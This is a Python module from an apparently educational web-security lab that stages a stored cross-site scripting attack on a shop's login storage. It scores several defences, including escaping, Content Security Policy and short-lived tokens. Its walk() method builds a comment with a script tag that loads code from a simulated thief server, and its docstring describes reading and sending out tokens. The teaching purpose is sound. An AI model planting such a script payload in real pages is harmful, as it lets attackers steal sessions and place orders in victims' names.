"""A stored script in a page (XSS), against six ways to keep a login."""

from collections.abc import Iterable, Mapping, Sequence
from itertools import groupby
from typing import ClassVar

from accounts.attacks._base import Attack, Cell, Defence, Reading, Result, Row, Stop
from accounts.attacks.stage.hosts import Party, origin_of
from accounts.attacks.stage.houses import HOUSES, House, house_words
from accounts.models import AttackAct, AttackPlay

NO_LOOT = "nothing to use"
COLUMNS = (
    "Did the script carry a login away?",
    "Orders while the tab was open",
    "Orders after it was closed",
)
WAIT = 2.5  # seconds; a token of two seconds is then over


class ScriptInAComment(Attack):
    """The shop prints comments as they were written. One of them loads a script from the thief.

    In the victim's page the script first reads what it can reach: localStorage, cookies, the
    browser's database. Then it asks the shop for a fresh token, as the page itself does. What it
    finds goes to the thief's server. With what the page has, it orders twenty gold lamps. At last
    the victim closes the tab, and the thief's server orders twenty more with what it was sent.
    """

    slug = "script-in-a-comment"
    title = "A comment with a script in it"
    known_as = "XSS"
    goal = "Get an order through after the victim has closed the tab."
    readings = (
        Reading(
            "RFC 10017, OAuth 2.0 for Browser-Based Applications, section 5",
            "https://www.rfc-editor.org/info/rfc10017",
        ),
        Reading(
            "OWASP: Cross Site Scripting Prevention",
            "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
        ),
    )
    defences = (
        Defence("escape", "Escape the comment", "The shop writes < as &lt;, so it stays text."),
        Defence(
            "policy",
            "Content Security Policy",
            "The shop lets the browser run and call nothing from elsewhere.",
        ),
        Defence(
            "password",
            "Ask for the password before an order",
            "Each order needs what the page does not keep.",
        ),
        Defence(
            "short-life",
            "Tokens of two seconds",
            "An access token lives no longer. Its refresh token does: who carries that away, too, "
            "asks for the next access token.",
        ),
    )
    caveat = (
        "The script is written for this shop and does not ask the victim for the password, which a "
        "real one could do with a form that looks like the shop's."
    )
    order = 10
    words: ClassVar = {
        "house": "One way to keep a login in the shop’s page. The same customer is robbed in each.",
        **house_words(HOUSES),
        "proofs made in advance": "The script cannot take the key along. But while the tab is open "
        "it can use it, and signs twenty proofs for orders that come later.",
        "by its refresh token": "The access token had expired. The refresh token was carried away "
        "with it, and the thief’s server got a new one for it.",
    }

    def walk(self, play: AttackPlay) -> Sequence[Stop]:
        comment = f'Nice lamp! <script src="{origin_of(Party.THIEF, play.home)}/x.js"></script>'
        wait = WAIT if "short-life" in play.defences else 0
        houses = [house for house in HOUSES if play.has_part(house.slug)]
        return [stop for house in houses for stop in _stops(house, comment, wait)]

    @classmethod
    def parts(cls) -> Mapping[str, str]:
        return {house.slug: house.title for house in HOUSES}

    def result(self, play: AttackPlay, acts: Sequence[AttackAct]) -> Result:
        houses = [house for house in HOUSES if play.has_part(house.slug)]
        rows = [_row(house, [act for act in acts if act.house == house.slug]) for house in houses]
        played = [row for row in rows if row.cells[0].went_well is not None]
        if not played:
            return Result(COLUMNS, rows, "Not played yet.")
        ridden, later = (
            [row for row in played if row.cells[number].went_well is False] for number in (1, 2)
        )
        solved = _solved(later, is_safe=len(played) == len(HOUSES) and not ridden)
        return Result(COLUMNS, rows, _sentence(len(ridden), len(later), len(played)), solved)


def _stops(house: type[House], comment: str, wait: float) -> list[Stop]:
    return [
        Stop(
            party=Party.SHOP,
            house=house.slug,
            title="The victim logs in",
            button="Log in",
            script="log-in.js",
            template="attacks/log_in.html",
            data={"title": house.title},
        ),
        Stop(
            party=Party.SHOP,
            house=house.slug,
            title="The victim reads a comment",
            button="Close the tab",
            script="comment.js",
            template="attacks/comment.html",
            data={"title": house.title, "comment": comment},
        ),
        Stop(
            party=Party.THIEF,
            house=house.slug,
            title="The tab is closed. The thief goes on",
            button="Order lamps with what I have",
            script="use.js",
            template="attacks/use.html",
            data={"title": house.title, "wait": wait},
        ),
    ]


def _row(house: type[House], acts: Sequence[AttackAct]) -> Row:
    used = next((act.facts for act in acts if act.name == "used"), None)
    if used is None:
        return Row(house.title, [Cell("not played")] * len(COLUMNS), house.family)
    loot = [act.facts for act in acts if act.name == "loot"]
    tab = [act.facts for act in acts if act.name == "order" and act.facts["by"] == "tab"]
    cells = (_carried(loot), _count(tab), _used(used))
    return Row(house.title, cells, house.family, _folded(map(_told, acts)))


def _carried(loot: Sequence[dict[str, object]]) -> Cell:
    if not loot:
        return Cell("no", went_well=True)
    if all(one["proofs"] for one in loot):
        return Cell("a token, and proofs made in advance; not the key", went_well=False)
    asked = all(one["kind"] == "asked" for one in loot)
    return Cell("yes, it asked for a new one" if asked else "yes", went_well=False)


def _count(orders: Sequence[dict[str, object]]) -> Cell:
    if not orders:
        return Cell("none: the script did not run", went_well=True, share=0)
    through = sum(not one["refused"] for one in orders)
    return _share(through, len(orders))


def _used(used: dict[str, int]) -> Cell:
    ordered, orders = used["ordered"], used["orders"]
    if not used["loot"]:
        return _share(0, orders, f": {NO_LOOT}")
    return _share(
        ordered, orders, ", by its refresh token" if ordered and used.get("renewed") else ""
    )


def _share(got: int, tried: int, more: str = "") -> Cell:
    return Cell(f"{got} of {tried}{more}", went_well=not got, share=got / tried)


def _folded(lines: Iterable[str]) -> list[str]:
    """Lines that repeat, once, with how often they came."""
    counted = ((line, len([*same])) for line, same in groupby(lines))
    return [f"{count} × {line}" if count > 1 else line for line, count in counted]


def _told(act: AttackAct) -> str:
    facts = act.facts
    match act.name:
        case "log-in":
            return "The victim logged in."
        case "loot":
            more = ", and a refresh token" if facts.get("refresh") else ""
            return f"The thief's server got {facts['bytes']} bytes: {facts['masked']}{more}"
        case "order":
            who = "The thief's server" if facts["by"] == "thief" else "The victim's tab"
            return f"{who} ordered a {facts['item']}: {facts['refused'] or 'accepted'}"
    renewed = facts.get("renewed", 0)
    more = f", with {renewed} new tokens for the refresh token" if renewed else ""
    return f"The thief's server had {facts['ordered']} of {facts['orders']} orders accepted{more}."


def _sentence(ridden: int, later: int, total: int) -> str:
    if not ridden and not later:
        return "The script got nothing through."
    if not later:
        return "The script could use the login while the tab was open, and not afterwards."
    if total == 1:
        return "The open tab let orders through, and so did the thief’s server after it was closed."
    return (
        f"The open tab let orders through in {ridden} of {total} houses. After it was closed, "
        f"{later} still did, and {total - later} did not: what a script cannot read, it can use, "
        "but not take along."
    )


def _solved(later: Sequence[Row], *, is_safe: bool) -> str:
    if later:
        return "Goal reached: an order got through after the tab was closed."
    return "Every house is safe: you found a defence that stops this script." if is_safe else ""
